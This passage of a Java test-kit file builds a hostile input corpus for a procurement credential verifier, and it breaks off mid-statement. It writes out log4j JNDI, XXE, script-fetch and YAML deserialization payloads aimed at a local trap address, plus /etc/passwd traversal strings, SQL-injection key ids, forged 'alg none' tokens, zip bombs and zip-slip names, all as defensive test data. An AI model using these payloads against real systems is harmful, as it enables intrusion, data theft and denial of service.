package org.touchstone.verifier.cli;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.touchstone.format.jose.Base64Url;
import org.touchstone.format.json.CanonicalJson;
import org.touchstone.format.json.Json;
import org.touchstone.format.json.StrictJson;
import org.touchstone.format.testkit.Samples;
import org.touchstone.format.testkit.TestKeys;
import org.touchstone.verifier.pdf.HandPdf;
import org.touchstone.verifier.pdf.HostilePdfs;

/// Hostile material for the verifier as a program: what somebody who wants to be accepted, to stop the program, to make
/// it call home, or to make it write where it should not would put into a bid. Made from names and seeds, so that it
/// is the same on every run.
///
/// Every address in it points at a trap on this machine, which nobody may ever call.
final class HostileCorpus {
    /// One run of the program.
    ///
    /// @param arguments the command line, relative to the corpus's folder
    /// @param allowed which exit codes it may end with
    /// @param code the reason that a check must give first, or empty if any will do
    record Item(String name, List<String> arguments, List<Integer> allowed, String code) {
        Item {
            // An empty file has a reason of its own.
            boolean empty = name.endsWith("text: empty file") || name.equals("file: /dev/null");
            code = empty && arguments.get(0).equals("verify") ? "INPUT_EMPTY" : code;
            // So has what is larger than a presentation and smaller than a bid of many may be.
            boolean large = name.endsWith("300 KB")
                    || name.endsWith("300 KB of text")
                    || name.endsWith("of one hash")
                    || name.endsWith("100,000 members");
            code = large && arguments.get(0).equals("verify") && code.equals(FORMAT) ? "INPUT_TOO_LARGE" : code;
            name = name.replaceAll("[\\p{Cntrl}\u202e]", "?");
            arguments = List.copyOf(arguments);
            allowed = List.copyOf(allowed);
        }

        /// One line of the list that other programs read: name, exit codes, code, arguments; tabs between, and
        /// a unit separator between arguments.
        String line() {
            return name + "\t"
                    + String.join(",", allowed.stream().map(String::valueOf).toList()) + "\t" + code + "\t"
                    + String.join("\u001f", arguments);
        }
    }

    private static final StrictJson.Limits WIDE = new StrictJson.Limits(4 << 20, 64, 200_000);
    private static final List<Integer> NOT_ACCEPTED = List.of(1, 3);
    private static final String FORMAT = "FORMAT_INVALID";

    private final Path folder;
    private final String trap;
    private final List<Item> items = new ArrayList<>();
    private final byte[] bid =
            World.world().presentation("harbour", World.tender()).bytes();
    private final String token =
            World.world().supplier("harbour").certificate().token().text();
    private int files;

    private HostileCorpus(Path folder, String trap) {
        this.folder = folder;
        this.trap = trap;
    }

    /// Writes the corpus into a folder and returns what is to be run, the good controls first. `trap` is the
    /// address that nobody may call, without a final slash.
    static List<Item> write(Path folder, String trap) {
        HostileCorpus corpus = new HostileCorpus(folder, trap);
        try {
            World.writeTo(folder);
            Files.createDirectories(folder.resolve("h"));
            corpus.controls();
            corpus.members();
            corpus.texts();
            corpus.tokens();
            corpus.vectors();
            corpus.archives();
            corpus.pdfs();
            corpus.folders();
            corpus.tenders();
            corpus.trustLists();
            corpus.packs();
            corpus.notices();
            corpus.debarments();
            corpus.records();
            corpus.others();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return corpus.items;
    }

    /// Writes a corpus and its list, for a program that runs each item as a process: `FOLDER TRAP`.
    public static void main(String[] args) throws IOException {
        Path folder = Files.createDirectories(Path.of(args[0]));
        List<Item> items = write(folder, args[1]);
        Files.write(folder.resolve("items.tsv"), items.stream().map(Item::line).toList());
        System.out.println(items.size());
    }

    // ---- how things get in

    private static List<String> check(String... operands) {
        List<String> out = new ArrayList<>(List.of("verify", "--format", "json", "--home", "home"));
        out.addAll(List.of("--at", "2026-11-22T14:57:00Z"));
        out.addAll(List.of(operands));
        return out;
    }

    private void add(String name, String code, String... operands) {
        items.add(new Item(name, check(operands), NOT_ACCEPTED, code));
    }

    /// A file handed in as harbour's bid.
    private void bid(String name, String code, byte[] content) throws IOException {
        String file = "h/" + files++ + ".json";
        Files.write(folder.resolve(file), content);
        add(name, code, "--tender", "tender.json", file);
    }

    private void file(String name, String code, String ending, byte[] content) throws IOException {
        String file = "h/" + files++ + ending;
        Files.write(folder.resolve(file), content);
        add(name, code, file);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---- good controls

    private void controls() throws IOException {
        List<Integer> good = List.of(0);
        Files.write(folder.resolve("h/good.zip"), zip(Map.of("harbour/certificate.presentation.json", bid)));
        Files.write(
                folder.resolve("h/stored.zip"),
                new Zip().add("harbour/a.json", bid).end());
        Zip old = new Zip();
        old.flags = 0;
        old.add("B\u00fcro.pdf".getBytes(Charset.forName("windows-1252")), 0, utf8("%PDF"), utf8("%PDF"), 4);
        Files.write(
                folder.resolve("h/windows-1252.zip"),
                old.add("harbour/a.json", bid).end());
        items.add(new Item("good bundle", check("harbour.bundle.json"), good, ""));
        String[] bids = {
            "bids/harbour/certificate.presentation.json", "h/good.zip", "h/stored.zip", "h/windows-1252.zip"
        };
        Files.write(folder.resolve("one-bidder.json"), oneBidder());
        for (String path : bids) {
            items.add(new Item("good " + path, check("--tender", "one-bidder.json", path), good, ""));
        }
        byte[] pdf = new HandPdf().attach("certificate.json", bid).end();
        Files.createDirectories(folder.resolve("h/pdf/harbour"));
        Files.write(folder.resolve("h/pdf/harbour/bid.pdf"), pdf);
        Files.write(folder.resolve("h/pdf/harbour/method.pdf"), new HandPdf().end());
        Files.write(
                folder.resolve("h/pdf.zip"),
                new Zip()
                        .add("harbour/bid.pdf", pdf)
                        .add("harbour/method.pdf", utf8("%PDF"))
                        .end());
        items.add(new Item("good PDF", check("h/pdf/harbour/bid.pdf"), good, ""));
        for (String path : new String[] {"h/pdf", "h/pdf.zip"}) {
            items.add(new Item("good " + path, check("--tender", "one-bidder.json", path), good, ""));
        }
        items.add(new Item("good folder", check("--tender", "one-bidder.json", "bids/harbour"), good, ""));
        // With a line end, as editors and shells make it; no log proof in the file, so it is referred.
        items.add(new Item("good token", check("harbour.jwt"), List.of(3), "LOG_PROOF_MISSING"));
    }

    private static byte[] oneBidder() {
        Json.Obj tender = World.tender().json();
        List<Json> one = List.of(tender.objects("bidders").get(0));
        return CanonicalJson.bytes(with(tender, "bidders", new Json.Arr(one)));
    }

    // ---- a good bid with each member spoilt in turn

    private void members() throws IOException {
        Json.Obj good = StrictJson.parseObject(bid, WIDE);
        Json evil = new Json.Str(trap + "/x");
        Map<String, UnaryOperator<Json>> damage = new LinkedHashMap<>();
        damage.put("null", _ -> new Json.Null());
        damage.put("number", _ -> new Json.Num(Json.Num.MAX));
        damage.put("empty", _ -> new Json.Str(""));
        damage.put("list", v -> new Json.Arr(List.of(v)));
        damage.put("object", _ -> Json.Obj.builder().with("href", trap).build());
        damage.put("address", _ -> evil);
        damage.put("long", _ -> new Json.Str("A".repeat(20_000)));
        damage.put("terminal", _ -> new Json.Str("\u001b[2J\u001b]0;owned\u0007\u202e\u0000\r\nMEETS"));
        damage.put("more", v -> v instanceof Json.Obj o ? with(o, "jku", evil) : new Json.Bool(true));
        for (List<String> path : paths(good)) {
            String where = String.join(".", path);
            bid("without " + where, "", CanonicalJson.bytes(changed(good, path, Optional.empty())));
            for (Map.Entry<String, UnaryOperator<Json>> d : damage.entrySet()) {
                bid(
                        d.getKey() + " at " + where,
                        "",
                        CanonicalJson.bytes(changed(good, path, Optional.of(d.getValue()))));
            }
        }
    }

    private static List<List<String>> paths(Json value) {
        List<List<String>> out = new ArrayList<>();
        Map<String, Json> members = new LinkedHashMap<>();
        if (value instanceof Json.Obj o) {
            members.putAll(o.members());
        } else if (value instanceof Json.Arr(List<Json> values)) {
            for (int i = 0; i < Math.min(3, values.size()); i++) {
                members.put(Integer.toString(i), values.get(i));
            }
        }
        members.forEach((name, inner) -> {
            out.add(List.of(name));
            for (List<String> rest : paths(inner)) {
                List<String> whole = new ArrayList<>(List.of(name));
                whole.addAll(rest);
                out.add(whole);
            }
        });
        return out;
    }

    private static Json changed(Json value, List<String> path, Optional<UnaryOperator<Json>> change) {
        String name = path.get(0);
        List<String> rest = path.subList(1, path.size());
        if (value instanceof Json.Arr(List<Json> values)) {
            List<Json> copy = new ArrayList<>(values);
            int i = Integer.parseInt(name);
            if (!rest.isEmpty()) {
                copy.set(i, changed(values.get(i), rest, change));
            } else if (change.isPresent()) {
                copy.set(i, change.get().apply(values.get(i)));
            } else {
                copy.remove(i);
            }
            return new Json.Arr(copy);
        }
        Map<String, Json> copy = new LinkedHashMap<>(((Json.Obj) value).members());
        if (!rest.isEmpty()) {
            copy.put(name, changed(copy.get(name), rest, change));
        } else if (change.isPresent()) {
            copy.put(name, change.get().apply(copy.get(name)));
        } else {
            copy.remove(name);
        }
        return new Json.Obj(copy);
    }

    private static Json.Obj with(Json.Obj o, String name, Json value) {
        Map<String, Json> copy = new LinkedHashMap<>(o.members());
        copy.put(name, value);
        return new Json.Obj(copy);
    }

    // ---- texts that are no JSON, or too much of it

    private Map<String, byte[]> badTexts() throws IOException {
        String good = new String(bid, StandardCharsets.UTF_8);
        String inner = good.substring(1, good.length() - 1);
        Map<String, byte[]> out = new LinkedHashMap<>();
        out.put("empty file", new byte[0]);
        out.put("a line feed", utf8("\n"));
        out.put("60 arrays deep", utf8("{\"type\":" + "[".repeat(60) + "]".repeat(60) + "}"));
        out.put("100,000 arrays deep", utf8("{\"type\":" + "[".repeat(100_000)));
        out.put("50,000 objects deep", utf8("{\"a\":".repeat(20_000)));
        out.put("100,000 members", utf8("{" + members(100_000, "k") + "}"));
        out.put("5,000 members of one hash", utf8("{" + colliding() + "}"));
        out.put("a member twice", utf8("{" + inner + ",\"version\":1}"));
        out.put("a member twice, escaped", utf8("{" + inner + ",\"versio\\u006e\":1}"));
        out.put("byte order mark", utf8("\ufeff" + good));
        out.put("UTF-16", good.getBytes(StandardCharsets.UTF_16));
        out.put("UTF-16 without mark", good.getBytes(StandardCharsets.UTF_16LE));
        out.put("UTF-32", good.getBytes(Charset.forName("UTF-32")));
        out.put("Latin-1 beyond ASCII", ("{\"n\":\"\u00e9\"," + inner + "}").getBytes(StandardCharsets.ISO_8859_1));
        out.put("overlong UTF-8", concat(utf8("{\"n\":\""), new byte[] {(byte) 0xc0, (byte) 0xaf}, utf8("\"}")));
        out.put("surrogates in UTF-8", concat(utf8("{\"n\":\""), bytes(0xed, 0xa0, 0x80), utf8("\"}")));
        out.put("half a surrogate pair", utf8("{\"n\":\"\\ud800\"," + inner + "}"));
        out.put("NUL inside", utf8("{\u0000" + inner + "}"));
        out.put("NUL after", utf8(good + "\u0000"));
        out.put("a second value", utf8(good + "{}"));
        out.put("a comment", utf8("{/* */" + inner + "}"));
        out.put("a trailing comma", utf8("{" + inner + ",}"));
        out.put("single quotes", utf8(good.replace('"', '\'')));
        out.put("no end", utf8("{" + inner));
        for (String n : List.of("NaN", "Infinity", "-0", "1e400", "1.0", "01", "9007199254740992", "+1", "0x1")) {
            out.put("number " + n, utf8("{\"n\":" + n + "," + inner + "}"));
        }
        out.put("number of 100,000 digits", utf8("{\"n\":" + "9".repeat(100_000) + "}"));
        out.put("__proto__", utf8("{\"__proto__\":{\"type\":\"touchstone-presentation\"}," + inner + "}"));
        out.put("decomposed text", utf8("{\"n\":\"e\u0301\"," + inner + "}"));
        out.put("20,000 combining marks", utf8("{\"n\":\"a" + "\u0301\u0323".repeat(10_000) + "\"," + inner + "}"));
        out.put("300 KB of text", utf8("{\"n\":\"" + "x".repeat(300_000) + "\"," + inner + "}"));
        out.put("20,000 escapes", utf8("{\"n\":\"" + "\\u0041".repeat(20_000) + "\"}"));
        out.put("XML", utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"" + trap + "/e\">]><x>&e;</x>"));
        out.put("a billion laughs", utf8("<!DOCTYPE l [<!ENTITY a \"" + "ha".repeat(100) + "\">]><l>&a;&a;</l>"));
        out.put("HTML", utf8("<html><img src=\"" + trap + "/pixel\"><script>fetch('" + trap + "')</script>"));
        out.put("YAML", utf8("type: !!javax.script.ScriptEngineManager [!!java.net.URL [\"" + trap + "\"]]"));
        out.put("Java serialisation", concat(bytes(0xac, 0xed, 0, 5), utf8("sr\0\4Evil")));
        out.put("a class file", concat(bytes(0xca, 0xfe, 0xba, 0xbe), new byte[100]));
        out.put("CBOR", bytes(0xd2, 0x84, 0x43, 0xa1, 0x01, 0x26, 0xa0));
        out.put("gzip", gzip(bid));
        out.put("zeros", new byte[100_000]);
        out.put("noise", noise(50_000));
        out.put("a page of sign-in", utf8("HTTP/1.1 302 Found\r\nLocation: " + trap + "\r\n\r\n"));
        out.put("log4j", utf8("{\"type\":\"${jndi:ldap://127.0.0.1/" + trap + "}\"}"));
        out.put("paths", utf8("{\"type\":\"../../../../etc/passwd\"}"));
        return out;
    }

    private void texts() throws IOException {
        for (Map.Entry<String, byte[]> text : badTexts().entrySet()) {
            bid("text: " + text.getKey(), FORMAT, text.getValue());
        }
    }

    private static String members(int count, String lead) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.append(i == 0 ? "" : ",").append('"').append(lead).append(i).append("\":1");
        }
        return out.toString();
    }

    /// Names that Java's hash of a text cannot tell apart: 12 times `Aa` or `BB`.
    private static String colliding() {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < 5_000; i++) {
            out.append(i == 0 ? "" : ",").append('"');
            for (int bit = 0; bit < 13; bit++) {
                out.append((i >> bit & 1) == 0 ? "Aa" : "BB");
            }
            out.append("\":1");
        }
        return out.toString();
    }

    private static byte[] noise(int length) {
        byte[] out = new byte[length];
        new Random(2026).nextBytes(out);
        return out;
    }

    private static byte[] gzip(byte[] raw) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out)) {
            z.write(raw);
        }
        return out.toByteArray();
    }

    private static byte[] bytes(int... values) {
        byte[] out = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            out[i] = (byte) values[i];
        }
        return out;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    // ---- tokens

    private static String signed(String header, String payload, String signer) {
        String input = Base64Url.encode(utf8(header)) + "." + Base64Url.encode(utf8(payload));
        return input + "." + Base64Url.encode(TestKeys.signer(signer).sign(utf8(input)));
    }

    private void tokens() throws IOException {
        String[] parts = token.split("\\.");
        String payload = new String(Base64Url.decode(parts[1]), StandardCharsets.UTF_8);
        String kid = "\"kid\":\"" + Samples.CERTIFICATE_KID + "\"";
        String rest = "\"cty\":\"vc\"," + kid + ",\"typ\":\"vc+jwt\"}";
        String jwk = CanonicalJson.text(TestKeys.es256("mallory").publicKey().json());
        Map<String, String> headers = new LinkedHashMap<>();
        for (String alg : List.of(
                "none",
                "None",
                "NONE",
                "nOnE",
                "",
                "HS256",
                "RS256",
                "PS256",
                "ES384",
                "ES256K",
                "EdDSA",
                "es256",
                "ES256 ",
                " ES256",
                "ES256\\u0000",
                "dir",
                "RSA-OAEP",
                "PBES2-HS256+A128KW")) {
            headers.put("alg " + alg, "{\"alg\":\"" + alg + "\"," + rest);
        }
        for (String extra : List.of(
                "\"jku\":\"" + trap + "/jwks\"",
                "\"x5u\":\"" + trap + "/x5u\"",
                "\"jwk\":" + jwk,
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAA\"",
                "\"crit\":[]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"zip\":\"DEF\"",
                "\"enc\":\"A256GCM\"",
                "\"epk\":" + jwk,
                "\"apu\":\"x\"",
                "\"p2c\":2147483647",
                "\"iss\":\"" + trap + "\"",
                "\"trust_chain\":[]",
                "\"typ\":\"vc+jwt\"",
                "\"alg\":\"ES256\"")) {
            headers.put("header with " + extra.split(":")[0], "{\"alg\":\"ES256\"," + extra + "," + rest);
        }
        for (Map.Entry<String, String> h : headers.entrySet()) {
            file("token: " + h.getKey(), FORMAT, ".jwt", utf8(signed(h.getValue(), payload, "mallory")));
        }
        Map<String, String> kids = new LinkedHashMap<>();
        kids.put(trap + "/key", "ISSUER_UNKNOWN");
        kids.put("did:web:127.0.0.1%3A" + trap.substring(trap.lastIndexOf(':') + 1) + "#k", "ISSUER_UNKNOWN");
        kids.put("did:key:zDnaerDaTF5BXEavCrfRZEk316dpbLsfPDZ3WJ5hRTPFU2169#k", "ISSUER_UNKNOWN");
        kids.put("../../keys/issuer", "ISSUER_UNKNOWN");
        kids.put("' OR '1'='1", "ISSUER_UNKNOWN");
        kids.put("file:///etc/passwd", "ISSUER_UNKNOWN");
        kids.put(Samples.CERTIFICATE_KID.toUpperCase(java.util.Locale.ROOT), "ISSUER_UNKNOWN");
        kids.put(Samples.CERTIFICATE_KID + "\\u0000", "KEY_UNKNOWN");
        kids.put(Samples.CERTIFICATE_KID + " ", "KEY_UNKNOWN");
        kids.put(Samples.PUBLIC.did() + "#certificate-2", "KEY_UNKNOWN");
        kids.put(Samples.PUBLIC.did(), "KEY_UNKNOWN");
        kids.put(Samples.STATUS_KID, "KEY_WRONG_USE");
        kids.put(Samples.CERTIFICATE_KID, "SIGNATURE_INVALID");
        for (Map.Entry<String, String> k : kids.entrySet()) {
            file(
                    "token: kid " + k.getKey(),
                    k.getValue(),
                    ".jwt",
                    utf8(signed(
                            "{\"alg\":\"ES256\",\"cty\":\"vc\",\"kid\":\"" + k.getKey() + "\",\"typ\":\"vc+jwt\"}",
                            payload,
                            "mallory")));
        }
        Map<String, String> shapes = new LinkedHashMap<>();
        BigInteger n = new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);
        BigInteger p = new BigInteger("ffffffff00000001000000000000000000000000ffffffffffffffffffffffff", 16);
        BigInteger[] edges = {
            BigInteger.ZERO,
            BigInteger.ONE,
            n,
            n.subtract(BigInteger.ONE),
            p,
            BigInteger.ONE.shiftLeft(256).subtract(BigInteger.ONE)
        };
        for (BigInteger r : edges) {
            for (BigInteger s : edges) {
                shapes.put(
                        "r " + r.toString(16) + " s " + s.toString(16),
                        parts[0] + "." + parts[1] + "." + Base64Url.encode(concat(fixed(r), fixed(s))));
            }
        }
        for (Map.Entry<String, String> s : shapes.entrySet()) {
            file("token: signature " + s.getKey(), "SIGNATURE_INVALID", ".jwt", utf8(s.getValue()));
        }
        Map<String, String> forms = new LinkedHashMap<>();
        forms.put("two parts", parts[0] + "." + parts[1]);
        forms.put("four parts", token + ".");
        forms.put("five parts", token + ".a.b");
        forms.put("no signature", parts[0] + "." + parts[1] + ".");
        forms.put("padding", token + "=");
        forms.put("a tilde", token + "~");
        forms.put("a space", " " + token);
        forms.put("two line feeds", token + "\n\n");
        forms.put("a line feed inside", parts[0] + ".\n" + parts[1] + "." + parts[2]);
        forms.put("NUL after", token + "\u0000");
        forms.put("quoted", "\"" + token + "\"");
        forms.put("as a bearer", "Bearer " + token);
        forms.put("as a data URL", "data:application/vc+jwt," + token);
        forms.put("twice", token + "\n" + token);
        forms.put("70,000 characters", parts[0] + "." + "A".repeat(70_000) + "." + parts[2]);
        forms.put("dots", ".".repeat(60_000));
        forms.put("the JSON form", "{\"payload\":\"" + parts[1] + "\",\"signatures\":[]}");
        forms.put("standard base64", parts[0] + "." + parts[1].replace('-', '+').replace('_', '/') + "+/." + parts[2]);
        forms.put("DER signature", parts[0] + "." + parts[1] + "." + Base64Url.encode(new byte[70]));
        forms.put("mathematical letters", token.replace("e", "\ud835\udc52"));
        for (Map.Entry<String, String> f : forms.entrySet()) {
            file("token: " + f.getKey(), FORMAT, ".jwt", utf8(f.getValue()));
        }
        // Signed by the registry's own key, as nobody but a thief of it could: nothing is fetched even then.
        Map<String, String> insider = new LinkedHashMap<>();
        insider.put("status list at the trap", payload.replace("https://register.example/status/", trap + "/status/"));
        insider.put("context at the trap", payload.replace("https://www.w3.org/ns/credentials/v2", trap + "/v2"));
        insider.put("schema at the trap", payload.replace("JsonSchema\"", "JsonSchema\",\"href\":\"" + trap + "\""));
        insider.put(
                "a proof member", payload.replaceFirst("\\{", "{\"proof\":{\"verificationMethod\":\"" + trap + "\"},"));
        insider.put("terms of use", payload.replaceFirst("\\{", "{\"termsOfUse\":[{\"id\":\"" + trap + "\"}],"));
        insider.put("refresh service", payload.replaceFirst("\\{", "{\"refreshService\":{\"id\":\"" + trap + "\"},"));
        insider.put("render method", payload.replaceFirst("\\{", "{\"renderMethod\":[{\"id\":\"" + trap + "\"}],"));
        for (Map.Entry<String, String> i : insider.entrySet()) {
            String header = new String(Base64Url.decode(parts[0]), StandardCharsets.UTF_8);
            file("insider: " + i.getKey(), "", ".jwt", utf8(signed(header, i.getValue(), "certificate 1")));
        }
    }

    private static byte[] fixed(BigInteger v) {
        byte[] raw = v.toByteArray();
        byte[] out = new byte[32];
        int from = Math.max(0, raw.length - 32);
        System.arraycopy(raw, from, out, 32 - (raw.length - from), raw.length - from);
        return out;
    }

    // ---- the vectors of the formats: what is handed in, and the pack that comes with it

    private void vectors() throws IOException {
        Path testdata = Path.of("..", "schemas", "testdata");
        for (String format : List.of("certificate", "bundle", "status-list", "presentation", "trust-list")) {
            try (Stream<Path> all = Files.list(testdata.resolve(format))) {
                for (Path vector : all.sorted().toList()) {
                    Json.Obj o = StrictJson.parseObject(Files.readAllBytes(vector), StrictJson.Limits.DOCUMENT);
                    Json.Obj s = o.objects("submissions").get(0);
                    byte[] content =
                            s.has("base64") ? Base64.getDecoder().decode(s.text("base64")) : utf8(s.text("content"));
                    // Another registry's world: whatever it holds, for this home it is nobody's.
                    file("vector: " + format + "/" + vector.getFileName(), "", ".json", content);
                }
            }
        }
    }

    // ---- archives

    private void zip(String name, byte[] archive) throws IOException {
        zip(name, FORMAT, archive);
    }

    private void zip(String name, String code, byte[] archive) throws IOException {
        String file = "h/" + files++ + ".zip";
        Files.write(folder.resolve(file), archive);
        add("zip: " + name, code, "--tender", "one-bidder.json", file);
    }

    private static byte[] zip(Map<String, byte[]> contents) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> e : contents.entrySet()) {
                z.putNextEntry(new ZipEntry(e.getKey()));
                z.write(e.getValue());
            }
        }
        return out.toByteArray();
    }

    private void archives() throws IOException {
        byte[] good = zip(Map.of("harbour/a.json", bid));
        byte[] stored = new Zip().add("a.json", bid).end();
        zip("no entries", new Zip().end());
        for (int part : new int[] {4, 22, 30, 100, good.length / 2, good.length - 22, good.length - 1}) {
            zip("cut off at " + part, Arrays.copyOf(good, part));
        }
        zip("one bomb", new Zip().deflated("a.json", new byte[20 << 20]).end());
        Zip many = new Zip();
        for (int i = 0; i < 2_000; i++) {
            many.deflated(i + ".json", new byte[60 << 10]);
        }
        zip("many small bombs", many.end());
        Zip kernel = new Zip().add("a.json", bid);
        for (int i = 0; i < 500; i++) {
            kernel.again("b" + i + ".json");
        }
        zip("overlapping files", kernel.end());
        zip("an archive in an archive", zip(Map.of("inner.zip", good, "more.zip", zip(Map.of("x.zip", good)))));
        for (String name : List.of(
                "../a.json",
                "/etc/a.json",
                "..\\a.json",
                "C:\\a.json",
                "a/../../b.json",
                "a\nb.json",
                "a\u0000.json",
                "a\u001b[31m.json",
                "./a.json",
                "a//b.json",
                "",
                "x".repeat(600) + ".json")) {
            zip(
                    "name " + name.substring(0, Math.min(20, name.length())),
                    new Zip().add(name, bid).end());
        }
        zip(
                "a name painted with bidi",
                "",
                new Zip().add("exe.\u202enosj.json", utf8("{}")).end());
        zip(
                "one name twice",
                new Zip().add("a.json", bid).add("a.json", utf8("{}")).end());
        zip(
                "one name in two cases",
                new Zip().add("a.json", bid).add("A.JSON", utf8("{}")).end());
        zip(
                "one name in two forms",
                new Zip()
                        .add("\u00e9.json", bid)
                        .add("e\u0301.json", utf8("{}"))
                        .end());
        Map<String, int[]> lies = new LinkedHashMap<>();
        lies.put("name", new int[] {46, 'b'});
        lies.put("method", new int[] {10, 8});
        lies.put("checksum", new int[] {16, 1});
        lies.put("packed size", new int[] {20, 1});
        lies.put("size", new int[] {24, 1});
        lies.put("place", new int[] {42, 1});
        lies.put("encryption", new int[] {8, 1});
        lies.put("strong encryption", new int[] {8, 65});
        lies.put("disk number", new int[] {34, 1});
        lies.put("method 9", new int[] {10, 9});
        lies.put("method 12", new int[] {10, 12});
        lies.put("method 14", new int[] {10, 14});
        lies.put("method 99", new int[] {10, 99});
        lies.put("a link", new int[] {41, 0xa1});
        for (Map.Entry<String, int[]> lie : lies.entrySet()) {
            byte[] bad = stored.clone();
            bad[Zip.directoryAt(bad) + lie.getValue()[0]] = (byte) lie.getValue()[1];
            zip(
                    "the directory states another " + lie.getKey(),
                    lie.getKey().equals("a disk number") ? "" : FORMAT,
                    bad);
        }
        for (int at : new int[] {4, 6, 8, 10, 12, 16}) {
            byte[] bad = stored.clone();
            bad[bad.length - 22 + at] ^= 1;
            zip("the end states another number at " + at, FORMAT, bad);
        }
        byte[] sixtyFour = stored.clone();
        Arrays.fill(sixtyFour, sixtyFour.length - 14, sixtyFour.length - 2, (byte) 0xff);
        zip("64-bit sizes", sixtyFour);
        zip("bytes before", concat(utf8("#!/bin/sh\nexit\n"), good));
        zip("a PDF before", concat(utf8("%PDF-1.7\n" + "x".repeat(1000)), good));
        zip("bytes after", concat(good, utf8("x")));
        zip("two archives", concat(good, zip(Map.of("b.json", utf8("{}")))));
        zip("a comment with an end in it", commented(good));
        zip("another file of 300 KB", new Zip().add("a.json", noise(300_000)).end());
        zip("damaged data", damaged(good));
        zip("41,000 entries", crowd(41_000));
        zip(
                "empty blocks by the megabyte",
                new Zip()
                        .add(utf8("a.json"), 8, new byte[10], new byte[4 << 20], 10)
                        .end());
        zip(
                "an unknown letter",
                new Zip()
                        .add(new byte[] {(byte) 0xe9, '.', 'j', 's', 'o', 'n'}, 0, bid, bid, bid.length)
                        .end());
        zip("a folder with content", new Zip().add("a/", bid).end());
        zip("no certificate inside", zip(Map.of("letter.pdf", utf8("%PDF"))));
        zip("only what a Mac leaves", zip(Map.of("__MACOSX/a.json", bid, ".DS_Store", bid)));
        Map<String, byte[]> strangers = new LinkedHashMap<>();
        strangers.put("gzip", gzip(bid));
        strangers.put("7z", concat(bytes('7', 'z', 0xbc, 0xaf, 0x27, 0x1c), new byte[100]));
        strangers.put("rar", concat(utf8("Rar!\u001a\u0007\u0000"), new byte[100]));
        strangers.put("tar", concat(utf8("a.json"), new byte[506]));
        strangers.put("the text itself", bid);
        strangers.put("nothing", new byte[0]);
        strangers.put("noise", noise(10_000));
        for (Map.Entry<String, byte[]> s : strangers.entrySet()) {
            zip("not a zip but " + s.getKey(), s.getValue());
        }
        for (Map.Entry<String, byte[]> text : badTexts().entrySet()) {
            if (text.getValue().length < 100_000) {
                zip(
                        "inside, text: " + text.getKey(),
                        FORMAT,
                        new Zip().add("a.json", text.getValue()).end());
            }
        }
        zip("4,000 bids of rubbish", crowd(4_000));
        sparse("h/huge.zip", 10L << 30);
        add("zip: ten gigabytes", FORMAT, "h/huge.zip");
        sparse("h/large.zip", 250L << 20);
        add("zip: 250 megabytes of nothing", FORMAT, "h/large.zip");
    }

    // ---- PDFs and pictures

    private void pdfs() throws IOException {
        byte[] other = World.world().bundle("fenland").bytes();
        for (Map.Entry<String, HostilePdfs.Case> c :
                HostilePdfs.all(bid, other, trap).entrySet()) {
            file(c.getKey(), c.getValue().code(), ".pdf", c.getValue().content());
        }
        byte[] jpeg = concat(bytes(0xff, 0xd8, 0xff, 0xe0), noise(20_000));
        byte[] png = concat(bytes(0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'), noise(20_000));
        file("picture: JPEG", "PICTURE_ONLY", ".jpg", jpeg);
        file("picture: PNG", "PICTURE_ONLY", ".png", png);
        file("picture: with the bid behind it", "PICTURE_ONLY", ".png", concat(png, bid));
        file("picture: with an archive behind it", "PICTURE_ONLY", ".jpg", concat(jpeg, zip(Map.of("a.json", bid))));
        file("picture: only its first bytes", "PICTURE_ONLY", ".jpg", bytes(0xff, 0xd8, 0xff));
        file("picture: under a certificate's name", "PICTURE_ONLY", ".json", png);
        file("picture: of more than a megabyte", "INPUT_TOO_LARGE", ".png", concat(png, new byte[1 << 20]));
        // A PDF whose attachment belongs to nobody who signed it.
        String forged = new String(bid, StandardCharsets.UTF_8)
                .replace("\"type\":\"touchstone-presentation\"", "\"type\":\"touchstone-bundle\"");
        file(
                "PDF: another type attached",
                "",
                ".pdf",
                new HandPdf().attach("a.json", utf8(forged)).end());
        byte[] mallory =
                utf8(signed("{\"alg\":\"ES256\",\"kid\":\"did:web:x#k\",\"typ\":\"vc+jwt\"}", "{}", "mallory"));
        file(
                "PDF: a forged token attached",
                "",
                ".pdf",
                new HandPdf().attach("a.jwt", mallory).end());
        byte[] many =
                new HandPdf().attach("a.json", other).attach("b.json", bid).end();
        zip(
                "PDFs of every kind",
                "",
                new Zip()
                        .add("a.pdf", many)
                        .add("b.pdf", utf8("%PDF-1.7\nEmbeddedFile"))
                        .end());
        zip(
                "only PDFs without attachments",
                new Zip().add("a.pdf", new HandPdf().end()).end());
        // Names as file systems allow them, with a PDF that must be looked at.
        Path names = Files.createDirectories(folder.resolve("f/pdf-names"));
        for (String name : List.of(
